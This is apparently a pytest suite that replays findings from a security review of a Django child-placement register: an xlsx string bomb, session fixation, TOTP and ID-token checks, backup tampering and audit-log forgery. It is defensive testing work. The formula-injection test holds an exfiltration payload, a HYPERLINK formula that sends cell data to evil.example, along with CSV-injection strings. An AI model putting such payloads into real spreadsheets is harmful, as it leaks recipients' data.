"""The third attacker review (issue 19), each finding as the attacker made it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
import stat
import subprocess
import sys
import zipfile
from base64 import b32decode
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from django.conf import settings
from django.core.cache import cache
from django.core.exceptions import SuspiciousOperation, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import load_workbook

from conftest import World, make_user, new_database
from obruten.accounts.models import Role
from obruten.accounts.tests.test_deploy_settings import documented_environment
from obruten.api import keys
from obruten.audit import log as audit_log
from obruten.audit import records
from obruten.audit.models import AuditEvent
from obruten.casework import services as casework
from obruten.casework.models import Transfer
from obruten.followup import services as followup
from obruten.followup.models import ChainStep, ChainStepRecord, FollowUp
from obruten.lib.tests.hostile import shared_string_bomb
from obruten.operations.tests.test_production import OBRUTEN, _environment, _obruten, _table_counts
from obruten.register.imports import COLUMNS
from obruten.register.models import Child, District, Placement, SchoolStart
from obruten.spreadsheets import csv_row, sheet_name
from obruten.sso import services
from obruten.sso.mfa import OIDC_BACKEND, PROVIDER_MFA_SESSION_KEY
from obruten.sso.tests.test_identity import ISSUER, _token, backend
from obruten.statistics.definitions import Params
from obruten.statistics.monthly import COLUMNS as MONTHLY_COLUMNS
from obruten.statistics.protection import protect_report
from obruten.statistics.tests.test_attacker import PERIODS, SEXES, YEAR, Published, random_register

PRODUCTION = override_settings(OIDC_ENABLED=True, DEMO_MODE=False)
PASSWORDS = "obruten.sso.backends.LocalPasswordBackend"
SECOND_FACTOR = reverse("sso:second_factor")


def _client(world: World, role: str) -> Client:
    client = Client()
    client.force_login(world.users[role])
    return client


@pytest.mark.parametrize(
    ("role", "url", "columns"),
    [("case_worker", "register:import", COLUMNS), ("analyst", "statistics:monthly", MONTHLY_COLUMNS)],
)
def test_1_a_tiny_xlsx_whose_cells_share_one_huge_string_is_refused(
    world: World, role: str, url: str, columns: Any
) -> None:
    placements = Placement.objects.count()
    upload = SimpleUploadedFile("liten.xlsx", shared_string_bomb(columns, count=300))
    response = _client(world, role).post(reverse(url), {"file": upload})
    assert response.status_code == 200
    assert [error.rule for error in response.context["result"].errors] == ["F08"]
    assert Placement.objects.count() == placements


# 2: hidden counts narrowed by totals that add up.


def test_2_one_placement_per_child_where_every_total_adds_up_narrows_no_small_count(db: None) -> None:
    """Issue 19's held-out register: one placement per child, all, girls and boys. Every
    distinct-children total is the sum of its parts, and an attacker who assumes so
    narrowed 4 of 82 hidden counts to [0, 4] before the protection assumed it too."""
    cache.clear()
    random_register(19, moves=False)
    published = Published()
    for period in PERIODS:
        for sex in SEXES:
            published.add_table(protect_report("placements", Params(year=YEAR, period=period, sex=sex)))
    published.add_known_relations()
    assert published.primary
    assert published.narrowed(exact_where_they_hold=True) == set()


# 3: production falls back to passwords alone.


def _without_provider(environment: dict[str, str]) -> dict[str, str]:
    return {name: value for name, value in environment.items() if not name.startswith("OIDC_")}


def _deploy_check(**environment: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "obruten.cli", "check", "--deploy", "--fail-level", "ERROR"]
    return subprocess.run(
        command, env={"PATH": "/usr/bin:/bin", **environment}, capture_output=True, text=True, check=False
    )


def test_3_production_without_a_provider_or_a_required_second_factor_fails_the_deploy_check(
    tmp_path: Path,
) -> None:
    environment = documented_environment(tmp_path)
    passwords_alone = _without_provider(environment)
    refused = _deploy_check(**passwords_alone)
    assert refused.returncode == 1 and "obruten.E001" in refused.stderr
    assert _deploy_check(**passwords_alone, SECOND_FACTOR_REQUIRED="true").returncode == 0
    assert _deploy_check(**environment).returncode == 0


def test_3_the_server_refuses_to_start_with_passwords_alone(tmp_path: Path) -> None:
    environment = _without_provider(documented_environment(tmp_path))
    gunicorn = Path(sys.executable).parent / "gunicorn"
    config = Path(settings.PROJECT_DIR) / "deploy" / "gunicorn.conf.py"
    started = subprocess.run(
        [str(gunicorn), "-c", str(config), "obruten.wsgi"],
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(settings.PROJECT_DIR), **environment},
        cwd=settings.PROJECT_DIR,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert started.returncode != 0 and "obruten.E001" in started.stderr


@override_settings(SECOND_FACTOR_REQUIRED=True, DEMO_MODE=False)
def test_3_with_passwords_as_the_first_factor_every_account_passes_a_second_before_any_page(
    world: World,
) -> None:
    client = Client()
    client.force_login(world.users["administrator"], backend=PASSWORDS)
    for url in [reverse("home"), reverse("register:caseload"), reverse("admin:index")]:
        assert client.get(url)["Location"].startswith(SECOND_FACTOR), url
    client.post(SECOND_FACTOR, {"code": _code(client.get(SECOND_FACTOR))})
    assert client.get(reverse("admin:index")).status_code == 200


# 11: the session id survives the second factor.


def test_11_the_session_cookie_is_a_host_cookie_in_production() -> None:
    assert settings.SESSION_COOKIE_SECURE  # the tests run with production's cookie settings
    assert settings.SESSION_COOKIE_NAME == "__Host-sessionid"
    assert settings.CSRF_COOKIE_NAME == "__Host-csrftoken"


def _code(page: Any) -> str:
    secret = page.content.decode().split('id="totp-secret">')[1].split("<")[0]
    return f"{totp(b32decode(secret)):06d}"


@PRODUCTION
def test_11_a_session_id_planted_before_the_code_is_worth_nothing_after_it(world: World) -> None:
    victim = Client()
    victim.force_login(world.users["case_worker"], backend=PASSWORDS)
    cookie = settings.SESSION_COOKIE_NAME
    planted = victim.cookies[cookie].value
    response = victim.post(SECOND_FACTOR, {"code": _code(victim.get(SECOND_FACTOR))})
    assert response.status_code == 302 and victim.cookies[cookie].value != planted
    attacker = Client()
    attacker.cookies[cookie] = planted
    assert attacker.get(reverse("register:caseload")).status_code == 302
    assert victim.get(reverse("register:caseload")).status_code == 200


# 12: the unconfirmed TOTP secret is shared and kept.


@PRODUCTION
def test_12_an_enrolment_secret_seen_by_another_session_never_becomes_a_second_factor(world: World) -> None:
    attacker, victim = Client(), Client()
    for client in (attacker, victim):
        client.force_login(world.users["case_worker"], backend=PASSWORDS)
    copied = attacker.get(SECOND_FACTOR).content.decode().split('id="totp-secret">')[1].split("<")[0]
    victim_page = victim.get(SECOND_FACTOR)
    assert copied not in victim_page.content.decode()
    assert not TOTPDevice.objects.filter(user=world.users["case_worker"]).exists()  # nothing kept
    victim.post(SECOND_FACTOR, {"code": _code(victim_page)})
    later = Client()
    later.force_login(world.users["case_worker"], backend=PASSWORDS)
    later.post(SECOND_FACTOR, {"code": f"{totp(b32decode(copied)):06d}"})
    assert later.get(reverse("register:caseload")).status_code == 302
    assert TOTPDevice.objects.filter(user=world.users["case_worker"], confirmed=True).count() == 1


# 13: unlinking a person's identity leaves her live session working.


@PRODUCTION
def test_13_unlinking_an_identity_ends_the_persons_sessions(world: World) -> None:
    person = world.users["case_worker"]
    identity = services.link_identity(
        actor=world.users["administrator"], user=person, issuer="https://login.example", subject="anna"
    )
    client = Client()
    client.force_login(person, backend=OIDC_BACKEND)
    session = client.session
    session[PROVIDER_MFA_SESSION_KEY] = True
    session.save()
    colleague = Client()
    colleague.force_login(world.users["case_worker_2"], backend=OIDC_BACKEND)
    assert client.get(reverse("register:caseload")).status_code == 200
    services.unlink_identity(actor=world.users["administrator"], identity=identity)
    assert client.get(reverse("register:caseload"))["Location"].startswith(reverse("login"))
    assert "_auth_user_id" in colleague.session


# 14: an ID token with several audiences, or for another party, is accepted.


@pytest.mark.parametrize(
    "claims",
    [
        {"aud": ["obruten", "another-client"]},
        {"aud": ["obruten", "another-client"], "azp": "another-client"},
        {"azp": "another-client"},
    ],
)
@override_settings(OIDC_ENABLED=True, OIDC_ISSUER=ISSUER, OIDC_RP_CLIENT_ID="obruten")
def test_14_an_id_token_for_several_audiences_or_another_party_is_refused(claims: dict[str, Any]) -> None:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    found = backend()
    with pytest.raises(SuspiciousOperation):
        found.get_payload_data(_token(key, **claims), key.public_key())
    allowed = {"aud": ["obruten", "another-client"], "azp": "obruten"}
    assert found.get_payload_data(_token(key, **allowed), key.public_key())["azp"] == "obruten"


# 5: whereabouts through the API.


@pytest.mark.parametrize("role", ["case_worker_2", "unit_manager", "school_coordinator", "case_worker"])
def test_5_the_api_withholds_a_protected_childs_school_start_as_the_page_does(
    world: World, role: str
) -> None:
    auth = {"Authorization": f"Bearer {keys.create_key(user=world.users[role], days=1, via='test')[1]}"}
    child, placement = world.protected, world.protected_placement
    start = placement.school_start
    urls = [f"/api/v1/children/{child.pk}", f"/api/v1/children/{child.pk}/placements/{placement.pk}"]
    responses = [Client().get(url, headers=auth) for url in urls]
    assert [response.status_code for response in responses] == [200, 200]
    bodies = [response.json() for response in responses]
    page = _client(world, role).get(reverse("register:child_detail", kwargs={"child_id": child.pk}))
    day = f"{start.first_school_day:%Y-%m-%d}"
    for body in bodies:
        text = json.dumps(body)
        shown = body["school_start"] if "school_start" in body else body["placements"][0]["school_start"]
        if role == "case_worker":  # responsible: sees where, on the page and in the API alike
            assert shown["taught_by_larteamet"] is False and day in text
            assert f"<dd>{day}</dd>" in page.content.decode()
        else:
            assert shown == {}  # recorded, and nothing more
            assert day not in text and f"<dd>{day}</dd>" not in page.content.decode()


# 6: formula injection and a crash through a district name edited in the admin.

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Öppna") / Farsta?'


def _formulas_and_names(content: bytes) -> tuple[list[str], list[str]]:
    """The formula elements of every sheet, and the sheet names, as Excel reads the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        formulas = [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]
    return formulas, load_workbook(io.BytesIO(content), read_only=True).sheetnames


def test_6_a_district_named_as_a_formula_is_text_in_every_spreadsheet_and_sheet_names_are_safe(
    world: World,
) -> None:
    District.objects.filter(code="farsta").update(name=EVIL)
    analyst, worker = _client(world, "analyst"), _client(world, "case_worker")
    year = f"{world.own_placement.start_date:%Y}"
    url = reverse("statistics:download", kwargs={"name": "placements", "fmt": "xlsx"})
    files = {
        "report": analyst.get(url, {"year": year}),
        "monthly file": analyst.get(reverse("statistics:monthly_export"), {"month": f"{year}-01"}),
        "import template": worker.get(reverse("register:import_template")),
        "pack": analyst.get(
            reverse("statistics:pack", kwargs={"fmt": "xlsx"}), {"year": year, "through": "T3"}
        ),
    }
    for name, response in files.items():
        assert response.status_code == 200, name
        formulas, sheets = _formulas_and_names(response.content)
        assert formulas == [], name
        assert all("/" not in sheet and "?" not in sheet for sheet in sheets), name
    book = load_workbook(io.BytesIO(files["report"].content))
    texts = [cell.value for row in book.active.iter_rows() for cell in row if cell.value]
    assert EVIL in texts  # shown as typed, as text
    url = reverse("statistics:download", kwargs={"name": "placements", "fmt": "csv"})
    text = analyst.get(url, {"year": year}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells  # text to Excel, not a formula


def test_6_sheet_names_excel_accepts() -> None:
    assert sheet_name("Farsta/Söder?") == "Farsta-Söder-"
    assert sheet_name("'" + "x" * 40) == "x" * 31
    assert sheet_name("Bromma", taken=["bromma"]) == "Bromma (2)"
    assert sheet_name("History") == "History (2)"
    assert sheet_name("[]") == "--" and sheet_name("  ") == "Blad"
    assert sheet_name("Stadsdel " + "🏠" * 12) == "Stadsdel " + "🏠" * 11  # 31 UTF-16 units


def test_6_a_figure_that_starts_with_a_sign_stays_a_figure_in_the_csv() -> None:
    assert csv_row(["-0,5", "+3", "-12 %", "=1+1", "-1+cmd", "@SUM(A1)"]) == [
        "-0,5",
        "+3",
        "-12 %",
        "'=1+1",
        "'-1+cmd",
        "'@SUM(A1)",
    ]


# 7: the 31-day limit on backdating a transfer was checked only when it was asked for.


def test_7_a_transfer_accepted_long_after_it_was_asked_for_cannot_move_the_case_further_back(
    world: World,
) -> None:
    bromma_chef = make_user("chef_bromma", Role.UNIT_MANAGER, ["bromma"])
    today = timezone.localdate()
    transfer = casework.start_transfer(
        actor=world.users["case_worker"],
        child=world.own,
        to_district=District.objects.get(code="bromma"),
        effective_date=today - timedelta(days=31),
        note="",
        via="test",
    )
    # Sixty days pass before the receiving enhetschef answers: the date is now 91 days back.
    Transfer.objects.filter(pk=transfer.pk).update(effective_date=today - timedelta(days=91))
    transfer.refresh_from_db()
    with pytest.raises(ValidationError, match="mer än 31 dagar bakåt"):
        casework.accept_transfer(actor=bromma_chef, transfer=transfer, case_worker=None, via="test")
    world.own.refresh_from_db()
    assert world.own.district.code == "farsta"
    assert Transfer.objects.get(pk=transfer.pk).status == Transfer.Status.PENDING


# 8: a chain step re-marked by someone else without a reason.


def test_8_someone_elses_mark_is_changed_only_with_a_reason(world: World) -> None:
    placement = world.own_placement
    step = ChainStep.objects.filter(chain_model__is_active=True, is_school_start=False).first()
    assert step is not None
    today = timezone.localdate()
    followup.record_chain_step(
        actor=world.users["case_worker"], placement=placement, step=step, status="done", day=today, via="test"
    )
    remark = {"placement": placement, "step": step, "status": "not_applicable", "via": "test"}
    colleague = world.users["case_worker_2"]
    with pytest.raises(ValidationError) as refused:
        followup.record_chain_step(actor=colleague, day=today - timedelta(days=3), **remark)
    assert "reason" in refused.value.message_dict
    assert ChainStepRecord.objects.get(placement=placement, step=step).status == "done"
    # the page keeps what was typed and names the field
    url = reverse(
        "followup:chain_step_correct",
        kwargs={"child_id": world.own.pk, "placement_id": placement.pk, "step_id": step.pk},
    )
    page = _client(world, "case_worker_2").post(
        url, {"status": "not_applicable", "date": f"{today:%Y-%m-%d}"}
    )
    assert page.status_code == 200 and "reason" in page.context["date_form"].errors
    followup.record_chain_step(
        actor=colleague, day=today - timedelta(days=3), reason="Rektor bekräftade", **remark
    )
    event = AuditEvent.objects.filter(object_type="chainsteprecord").last()
    assert event is not None and event.reason == "Rektor bekräftade"
    followup.record_chain_step(actor=colleague, day=today, **remark)  # her own mark: no reason needed


# 9: refused views logged as reads.


def test_9_a_refused_page_is_logged_as_refused_never_as_read(world: World) -> None:
    url = reverse("teaching:child", kwargs={"child_id": world.own.pk})
    before = AuditEvent.objects.order_by("-sequence").values_list("sequence", flat=True).first()
    assert _client(world, "case_worker_2").get(url).status_code == 403
    events = list(AuditEvent.objects.filter(sequence__gt=before).values_list("action", "child_id", "via"))
    assert events == [("refused", world.own.pk, "teaching:child")]


# 10: the register can be changed behind the log's back.


def test_10_every_record_the_services_wrote_is_explained_by_its_audited_write(world: World) -> None:
    assert records.unexplained() == []


def test_10_a_record_changed_directly_in_the_database_is_found(world: World) -> None:
    Child.objects.filter(pk=world.own.pk).update(first_name="Xugo")  # no service, no audit
    FollowUp.objects.filter(child=world.protected).delete()
    found = records.unexplained()
    assert [(child.child_id, "differ" in child.message) for child in found] == [
        (world.own.pk, True),
        (world.protected.pk, True),
    ]
    errors = io.StringIO()
    with pytest.raises(CommandError, match="2 child"):
        call_command("audit", "verify", "--records", stderr=errors)
    assert f"child {world.own.pk}: its records differ" in errors.getvalue()


def test_10_a_column_added_by_an_upgrade_leaves_the_records_as_they_were_until_it_is_used(
    world: World,
) -> None:
    """A column a migration adds (its value the same in every existing row) does not make
    every child's records look changed; a value written behind the log's back is found."""
    placement = world.own_placement
    before = records.digests([world.own.pk])
    assert SchoolStart.objects.get(placement=placement).late_reason == "vantar_beslut"
    SchoolStart.objects.filter(placement__child=world.protected).update(late_reason="")  # no service
    assert [child.child_id for child in records.unexplained()] == [world.protected.pk]
    Placement.objects.filter(pk=placement.pk).update(exit_destination="hem")  # no service, no audit
    assert records.digests([world.own.pk]) != before
    assert {child.child_id for child in records.unexplained()} == {world.own.pk, world.protected.pk}


def test_10_a_table_added_to_the_records_by_an_upgrade_is_covered_from_the_baseline(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The gymnasieexamen became part of a child's records after states were first stored
    (version 2): a state written before leaves the child as it was, so an upgrade flags
    nobody; `audit baseline` brings every child whose records still match to version 2,
    and from then a diploma changed behind the log's back is found."""
    from conftest import register
    from obruten.followup import services as followup_services
    from obruten.followup.models import UpperSecondaryQualification

    worker = world.users["case_worker"]
    young = register("200607092384", "Hedda", "farsta", worker)  # synthetic, born 2006
    monkeypatch.setattr(records, "version", lambda: 1)  # the release before the table counted
    followup_services.record_upper_secondary_qualification(
        actor=worker, child=young, kind="hogskoleforberedande", day=date(2025, 6, 10), via="test"
    )
    Child.objects.filter(pk=world.own.pk).update(first_name="Xugo")  # no service, no audit
    monkeypatch.undo()

    def newest_state(child: Any) -> str:
        return AuditEvent.objects.filter(child=child).order_by("-sequence").values_list("state", flat=True)[0]

    assert records.version_of(newest_state(young)) == 1
    assert [child.child_id for child in records.unexplained()] == [
        world.own.pk
    ]  # the upgrade flags nobody else
    out = io.StringIO()
    call_command("audit", "baseline", stdout=out)
    assert "0 child(ren) whose newest write had none" in out.getvalue()
    assert newest_state(young).startswith("@2:") and len(newest_state(young)) == 64
    UpperSecondaryQualification.objects.filter(child=young).update(date=date(2024, 6, 10))  # no service
    # A child changed behind the log is not absorbed by the baseline: still reported.
    assert {child.child_id for child in records.unexplained()} == {world.own.pk, young.pk}
    # A state written behind the log's back that only looks versioned is of the first
    # version, so it differs from every digest and is reported (never a crash).
    assert [records.version_of(state) for state in ("@²:ab", "@0:ab", "@2:", "@2:ab", "a" * 64)] == [
        1,
        1,
        1,
        2,
        1,
    ]


# 4: backups anyone could read or alter.


@pytest.fixture(scope="module")
def small_register(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = new_database(tmp_path_factory.mktemp("source"), "issue19_source")
    for command in (["migrate", "-v0"], ["demo", "--seed", "5", "--scale", "small"]):
        done = _obruten(url, *command, DEMO_MODE="1")
        assert done.returncode == 0, done.stderr
    return url


def _backup(url: str, directory: Path, *extra: str) -> None:
    # umask 022, as the timer's shell might have: the backup is private all the same.
    done = subprocess.run(
        ["/bin/sh", "-c", 'umask 022; exec "$@"', "sh", *OBRUTEN, "backup", "--out", str(directory), *extra],
        env=_environment(url),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_4_a_backup_is_its_owners_alone_whatever_the_umask(small_register: str, tmp_path: Path) -> None:
    directory = tmp_path / "nightly"
    _backup(small_register, directory)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in directory.iterdir()} == {0o600}
    units = (Path(settings.PROJECT_DIR) / "deploy" / "systemd").glob("*.service")
    assert all("UMask=0077" in unit.read_text(encoding="utf-8") for unit in units)


def _execute(url: str, sql: str) -> None:
    """A change made in the database directly, past every service and the audit log."""
    if url.startswith("sqlite"):
        with sqlite3.connect(url.removeprefix("sqlite:///")) as connection:
            connection.execute(sql)
        return
    import psycopg

    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(sql)  # type: ignore[arg-type]


def _one_byte_changed(directory: Path, name: str) -> None:
    path = directory / name
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


def test_4_a_backup_with_one_changed_byte_is_refused_before_anything_is_restored(
    small_register: str, tmp_path: Path
) -> None:
    directory = tmp_path / "nightly"
    _backup(small_register, directory)
    manifest = json.loads((directory / "manifest.json").read_text(encoding="utf-8"))
    _one_byte_changed(directory, manifest["file"])
    restored = new_database(tmp_path, "issue19_changed")
    refused = _obruten(restored, "restore", str(directory))
    assert refused.returncode == 1 and "does not match the SHA-256" in refused.stderr
    assert _table_counts(restored) == {}  # nothing restored

    # The attacker writes the new file's SHA-256 into the manifest: without the audit key,
    # its HMAC no longer holds.
    manifest["files"][manifest["file"]] = hashlib.sha256(
        (directory / manifest["file"]).read_bytes()
    ).hexdigest()
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    refused = _obruten(restored, "restore", str(directory))
    assert refused.returncode == 1 and "was not written with this AUDIT_KEY" in refused.stderr


def test_4_a_restored_register_changed_behind_its_log_is_refused(small_register: str, tmp_path: Path) -> None:
    """Someone with the audit key rewrites a name in the database, then backs it up: the
    files and the manifest hold, the records do not match their log."""
    tampered = new_database(tmp_path, "issue19_tampered")
    _backup(small_register, tmp_path / "first")
    assert _obruten(tampered, "restore", str(tmp_path / "first")).returncode == 0
    _execute(tampered, "UPDATE register_child SET first_name = 'Xugo' WHERE id = 1")
    _backup(tampered, tmp_path / "second")
    restored = new_database(tmp_path, "issue19_restored")
    refused = _obruten(restored, "restore", str(tmp_path / "second"))
    assert (
        refused.returncode == 1
        and "1 child(ren) whose records no audited write explains (e.g. 1)" in refused.stderr
    )


def test_4_an_encrypted_backup_is_restored_only_with_the_key_kept_apart(
    small_register: str, tmp_path: Path
) -> None:
    identity = tmp_path / "age-identity.txt"
    subprocess.run(["age-keygen", "-o", str(identity)], check=True, capture_output=True)  # noqa: S607
    recipient = next(
        line.split(": ")[1] for line in identity.read_text().splitlines() if line.startswith("# public key")
    )
    directory = tmp_path / "nightly"
    _backup(small_register, directory, "--encrypt-to", recipient)
    files = sorted(path.name for path in directory.iterdir())
    dump = next(name for name in files if name.endswith(".age"))
    assert not (directory / dump).read_bytes().startswith((b"SQLite format 3", b"PGDMP"))
    restored = new_database(tmp_path, "issue19_encrypted")
    without = _obruten(restored, "restore", str(directory))
    assert without.returncode == 1 and "--identity" in without.stderr
    done = _obruten(restored, "restore", str(directory), "--identity", str(identity))
    assert done.returncode == 0, done.stderr
    assert _table_counts(restored) == _table_counts(small_register)


def test_10_the_baseline_after_an_upgrade_records_the_state_of_children_written_before_it(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as before_record_states:
        before_record_states.setattr(records, "digests", lambda ids: {})
        audit_log.record(actor=None, action="update", via="test", child=world.other)
    assert records.children_without_state() == [world.other.pk]
    assert "no state" in records.unexplained()[0].message
    call_command("audit", "baseline", stdout=io.StringIO())  # trusts the records as they are
    assert records.unexplained() == [] and records.children_without_state() == []


def test_10_a_row_removed_and_forged_into_another_rows_text_is_found(world: World) -> None:
    """The second review: with values joined by in-band separators, a removed row could be
    appended to the note of the row before it and leave the digest as it was."""
    from obruten.followup.models import Intervention, InterventionKind

    followup.save_intervention(
        actor=world.users["case_worker"],
        child=world.own,
        intervention=None,
        via="test",
        data=followup.InterventionData(
            kind=InterventionKind.objects.get(code="laxhjalp"), start=date(2026, 1, 5)
        ),
    )
    first, last = Intervention.objects.filter(child=world.own).order_by("pk")
    columns = [field.attname for field in Intervention._meta.concrete_fields]
    [raw] = list(records._raw(Intervention.objects.filter(pk=last.pk).values_list(*columns)))
    forged = "\x1e" + "\x1f".join(["followup.Intervention", *(records._text(value) for value in raw)])
    Intervention.objects.filter(pk=last.pk).delete()
    Intervention.objects.filter(pk=first.pk).update(note=first.note + forged)
    assert [child.child_id for child in records.unexplained()] == [world.own.pk]


def test_10_an_alert_acknowledged_or_removed_in_the_database_is_found(world: World) -> None:
    from obruten.participation.models import Alert, Invitation

    invitation = Invitation.objects.filter(child=world.own).first() or Invitation.objects.first()
    assert invitation is not None
    Alert.objects.create(child=invitation.child, invitation=invitation, respond_by=timezone.now())
    assert [child.child_id for child in records.unexplained()] == [invitation.child_id]
